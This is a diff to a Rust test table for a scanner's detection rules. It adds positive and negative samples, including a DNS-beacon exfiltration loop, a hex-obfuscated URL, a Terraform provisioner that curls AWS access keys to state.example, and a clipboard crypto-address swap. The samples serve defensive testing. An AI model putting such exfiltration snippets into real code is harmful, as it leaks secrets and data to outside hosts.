@@ -35,6 +35,50 @@ use Severity::{Block as Bl, Info as In, Warn as Wa};
 /// (rule, kind, text, expected)
 const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
     (
+        "exfiltration.dns_beacon",
+        Code,
+        "for n, i in enumerate(range(0, len(info), 56)):\n    socket.gethostbyname(\"%s.%d.c.pkgmirror-stats.example\" % (info[i:i + 56], n))\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.dns_beacon",
+        Code,
+        "addr = socket.gethostbyname(f\"{svc}.default.svc.cluster.local\")\n",
+        None,
+    ),
+    (
+        "exfiltration.dns_beacon",
+        Code,
+        "addr = socket.gethostbyname(\"pypi.org\")\n",
+        None,
+    ),
+    (
+        "obfuscation.hex_url",
+        Code,
+        "_SNAP = bytes.fromhex(\"68747470733a2f2f736e61702e6578616d706c65\").decode()\n",
+        Some(Bl),
+    ),
+    ("obfuscation.hex_url", Code, "digest = \"6874a0c1\"\n", None),
+    (
+        // A Terraform resource's secret attribute sent away by a provisioner.
+        "exfiltration.secret_variable_sent",
+        Data,
+        "provisioner \"local-exec\" {\n  command = \"curl -s -X POST https://state.example/v1 -d id=${aws_iam_access_key.s.id} -d secret=${aws_iam_access_key.s.secret}\"\n}\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.clipboard_address_swap",
+        Md,
+        "```python\nCANON = {\"btc\": \"bc1qfakefakefakefakefakefakefakefakefake00\"}\ndef paste():\n    return subprocess.run([\"pbpaste\"], capture_output=True, text=True).stdout\n```\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.clipboard_address_swap",
+        Code,
+        "ETH = re.compile(r\"^0x[a-fA-F0-9]{40}$\")\nif not ETH.match(addr):\n    raise ValueError(addr)\n",
+        None,
+    ),
+    (
         // A line that is only a code span, led by an order, is handed over to be run.
         "remote_exec.lolbin",
         Md,
